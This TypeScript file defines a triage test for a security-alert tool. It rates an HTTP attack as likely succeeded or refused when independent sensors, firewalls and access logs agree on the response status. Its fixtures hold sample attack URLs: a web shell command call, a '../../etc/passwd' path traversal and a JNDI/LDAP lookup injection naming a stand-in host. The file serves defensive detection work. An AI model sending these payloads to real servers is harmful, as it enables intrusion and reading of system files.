import type { CaseEvent, ImpactCase } from '../case.ts'
import { defineImpactTest } from '../define.ts'
import { decisionsOn } from '../reading/device-decisions.ts'
import { alerted, ATTACKER, firewall, HOST, TARGET } from '../reading/made-records.ts'
import { onceEach } from '../reading/once-each.ts'
import { citesOf, eventsOf, numberOf, plainAddress, textOf } from '../reading/values.ts'

const AROUND = 60_000_000
/** They run before the answer is made: its status says nothing. */
const BLIND = new Set<ImpactCase['attackClass']>([
  'command_injection', 'code_execution', 'lookup_injection', 'server_side_request', 'xml_entity', 'web_shell', 'file_upload', 'malware', null,
]) // prettier-ignore

/** A kind of witness: two sensors of one kind see by the same rules. */
const witness = ({ format, type }: CaseEvent): string =>
  format === 'eve'
    ? 'Suricata'
    : format.startsWith('zeek')
      ? 'Zeek'
      : format === 'capture'
        ? 'capture'
        : type === 'access'
          ? 'access log'
          : format

interface Answer {
  readonly event: CaseEvent
  readonly from: string
  readonly url: string
  readonly status: number
  readonly by: string
}
/** Null where the record tells of none. */
const answerOf = onceEach((event: CaseEvent): Answer | null => {
  const { fields, type } = event
  const status = numberOf(fields, 'http.status')
  return status === null || type === 'alert'
    ? null
    : { event, from: plainAddress(textOf(fields, 'src.ip')), url: textOf(fields, 'http.url'), status, by: witness(event) }
})

export default defineImpactTest({
  id: 'sources-agree',
  family: 'others',
  title: { en: 'Independent sources agree', ko: '독립된 출처 일치' },
  reasoning: {
    en: 'What a sensor, a firewall and the log of the target tell of one request without knowing of each other was so.',
    ko: '서로 독립된 센서, 방화벽, 표적 기록이 같은 요청에 대해 같은 결과를 나타내면 그 결과는 믿을 수 있습니다.',
  },
  spec: 'https://doi.org/10.6028/NIST.SP.800-92',
  appliesTo: 'Requests of HTTP of which two kinds of source and more tell the answer.',
  reads: ['own', 'flow', 'after', 'attacker', 'target'],
  applies: ({ own, attacker }) => own.length > 0 && attacker.ip !== null,
  test(of) {
    const { own, attacker, attackClass, complete } = of
    const urls = new Set(own.map(({ fields }) => textOf(fields, 'http.url')).filter((url) => url !== ''))
    if (urls.size === 0) return null
    const answers = eventsOf(of.flow, of.after).flatMap((event) => {
      const answer = answerOf(event)
      if (answer === null || answer.from !== attacker.ip || !urls.has(answer.url)) return []
      return own.some(({ time }) => Math.abs(time - event.time) <= AROUND) ? [answer] : []
    })
    if (new Set(answers.map(({ by }) => by)).size < 2) return null
    const kinds = [...new Set(answers.map(({ by }) => by))].slice(0, 4).join(', ')
    const decisions = decisionsOn(of).filter((one) => one.let)
    const cites = citesOf([...answers.map(({ event }) => event.id), ...decisions.map(({ event }) => event.id)])
    const each = [...urls].map((url) => answers.filter((one) => one.url === url))
    const well = answers.every(({ status }) => status >= 200 && status < 300)
    if (well && (attackClass === 'web_shell' || attackClass === 'file_upload' || attackClass === 'command_injection' || attackClass === 'path_traversal'))
      return {
        result: 'likely',
        confidence: 0.35,
        reason: { en: `Independent sources (${kinds}) say that the request was answered well.`, ko: `독립된 출처가 정상 응답을 나타냅니다. 출처 ${kinds}` },
        cites,
      } // prettier-ignore
    const refused = each.every(
      (group) => new Set(group.map(({ by }) => by)).size >= 2 && group.every(({ status }) => status >= 400 && status < 500),
    )
    if (refused && complete && !BLIND.has(attackClass))
      return {
        result: 'failed',
        confidence: 0.5,
        reason: {
          en: `Independent sources (${kinds}) say that the request was refused.`,
          ko: `독립된 출처가 요청 거부를 나타냅니다. 출처 ${kinds}`,
        },
        cites,
      }
    return null
  },
  examples: [
    {
      name: 'the sensor and the access log say 200, the firewall let it through',
      of: {
        title: 'Web shell call',
        own: [alerted(0, { 'http.url': '/u/x.php?c=id' })],
        flow: [answer('eve', 'http', '/u/x.php?c=id', 200), firewall(0, 'allow')],
        after: [answer('text', 'access', '/u/x.php?c=id', 200)],
      },
      expect: 'likely',
    },
    {
      name: 'two say 403',
      of: {
        title: 'Path traversal',
        own: [alerted(0, { 'http.url': '/a?f=../../etc/passwd' })],
        flow: [answer('eve', 'http', '/a?f=../../etc/passwd', 403), answer('zeek-json', 'http', '/a?f=../../etc/passwd', 403)],
      },
      expect: 'failed',
    },
    {
      name: 'two of the same kind',
      of: {
        title: 'Path traversal',
        own: [alerted(0, { 'http.url': '/a?f=../../etc/passwd' })],
        flow: [
          answer('eve', 'http', '/a?f=../../etc/passwd', 403),
          { ...answer('eve', 'http', '/a?f=../../etc/passwd', 403), source: 's2' },
        ],
      },
      expect: null,
    },
    {
      name: 'they differ',
      of: {
        title: 'Path traversal',
        own: [alerted(0, { 'http.url': '/a?f=../../etc/passwd' })],
        flow: [answer('eve', 'http', '/a?f=../../etc/passwd', 403), answer('text', 'access', '/a?f=../../etc/passwd', 200)],
      },
      expect: null,
    },
    {
      name: 'refused, but what it does is done before the answer',
      of: {
        title: 'JNDI lookup',
        own: [alerted(0, { 'http.url': '/?x=${jndi:ldap://a.example/b}' })],
        flow: [
          answer('eve', 'http', '/?x=${jndi:ldap://a.example/b}', 404),
          answer('text', 'access', '/?x=${jndi:ldap://a.example/b}', 404),
        ],
      },
      expect: null,
    },
    {
      name: 'another page of the same visitor',
      of: {
        title: 'Path traversal',
        own: [alerted(0, { 'http.url': '/a?f=../../etc/passwd' })],
        flow: [answer('eve', 'http', '/', 404), answer('text', 'access', '/', 404)],
      },
      expect: null,
    },
  ],
})

function answer(format: string, type: string, url: string, status: number): ReturnType<typeof alerted> {
  return {
    at: 0,
    type,
    format,
    source: format,
    fields: {
      'src.ip': ATTACKER,
      'src.port': 40_000,
      'dst.ip': TARGET,
      'dst.port': 80,
      'host.name': HOST,
      'http.url': url,
      'http.status': status,
    },
  }
}
